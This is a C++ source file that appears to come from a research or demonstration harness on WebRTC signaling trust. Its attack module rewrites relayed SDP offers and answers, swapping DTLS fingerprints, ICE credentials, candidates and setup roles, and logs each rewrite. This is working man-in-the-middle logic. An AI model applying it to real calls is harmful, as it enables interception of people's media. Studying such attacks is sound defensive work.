#include "attacks/sdp_rewrite.hpp"
#include "core/timeline_events.hpp"

namespace sigtrust::attacks {

void set_fingerprints(sdp::Session& s, const std::vector<sdp::Fingerprint>& fps) {
  // They go where the SDP carried them (RFC 8122 §5): at session level if
  // any was there (it then covers every section), else in each media section
  // that had one, as browsers write a call — a section left without one is
  // refused: Chromium rejected a call's data channel (port 0) when only the
  // first section, the audio, kept a fingerprint. With none anywhere, the
  // first media section gets them.
  std::vector<int> levels;
  if (!sdp::find_all(s, -1, "fingerprint").empty()) levels.push_back(-1);
  else
    for (int level = 0; level < static_cast<int>(s.media.size()); ++level)
      if (!sdp::find_all(s, level, "fingerprint").empty()) levels.push_back(level);
  if (levels.empty()) levels.push_back(s.media.empty() ? -1 : 0);
  for (int level = -1; level < static_cast<int>(s.media.size()); ++level) sdp::remove_all(s, level, "fingerprint");
  for (const int level : levels) {
    auto& attrs = sdp::attributes_at(s, level);
    // Keep the usual position: before a=setup when there is one.
    auto pos = std::find_if(attrs.begin(), attrs.end(), [](const sdp::Attribute& a) { return a.name == "setup"; });
    for (const auto& fp : fps)
      pos = std::next(attrs.insert(pos, sdp::Attribute{"fingerprint", sdp::format_fingerprint(fp)}));
  }
}

void set_transport(sdp::Session& s, const LocalIce& ice) {
  for (int level = -1; level < static_cast<int>(s.media.size()); ++level) {
    const bool had_ufrag = !sdp::find_all(s, level, "ice-ufrag").empty();
    if (had_ufrag) sdp::set_single(s, level, "ice-ufrag", ice.ufrag);
    if (!sdp::find_all(s, level, "ice-pwd").empty()) sdp::set_single(s, level, "ice-pwd", ice.pwd);
    sdp::remove_all(s, level, "candidate");
  }
  if (s.media.empty()) return;
  auto& attrs = sdp::attributes_at(s, 0);
  auto pos =
      std::find_if(attrs.begin(), attrs.end(), [](const sdp::Attribute& a) { return a.name == "end-of-candidates"; });
  for (const auto& c : ice.candidates)
    pos = std::next(attrs.insert(pos, sdp::Attribute{"candidate", sdp::format_candidate(c)}));
}

void set_setup(sdp::Session& s, const std::string& value) {
  for (int level = -1; level < static_cast<int>(s.media.size()); ++level)
    if (!sdp::find_all(s, level, "setup").empty()) sdp::set_single(s, level, "setup", value);
}

void record_rewrite(Timeline& t, const std::string& attacker, const RelayedMessage& m, const std::string& what,
                    const std::string& before, const std::string& after) {
  t.add(attacker, events::kAttackRewrite, what + " in the message from " + m.from_label + " to " + m.to_label,
        {{"before", before}, {"after", after}, {"from", m.from_label}, {"to", m.to_label}});
}

SdpRewriter::SdpRewriter(Timeline& timeline, std::string attacker, bool offers, bool answers, Edit edit)
    : timeline_(timeline), attacker_(std::move(attacker)), offers_(offers), answers_(answers), edit_(std::move(edit)) {}

void SdpRewriter::on_message(const RelayedMessage& m, Deliver deliver) {
  auto msg = parse_signaling(m.text);
  const bool target = msg && ((offers_ && msg->type == SignalingMessage::Type::Offer) ||
                              (answers_ && msg->type == SignalingMessage::Type::Answer));
  if (!target) return deliver(m.text);
  auto session = sdp::parse(msg->sdp);
  if (!session) {
    timeline_.add(attacker_, events::kAttackSkipped, "could not parse the SDP to rewrite: " + session.error().message);
    return deliver(m.text);
  }
  edit_(*session, m, msg->type);
  SignalingMessage out = *msg;
  out.sdp = sdp::write(*session);
  record_rewrite(timeline_, attacker_, m, std::string("rewrote the ") + std::string(to_string(msg->type)), msg->sdp,
                 out.sdp);
  deliver(serialize(out));
}

}  // namespace sigtrust::attacks
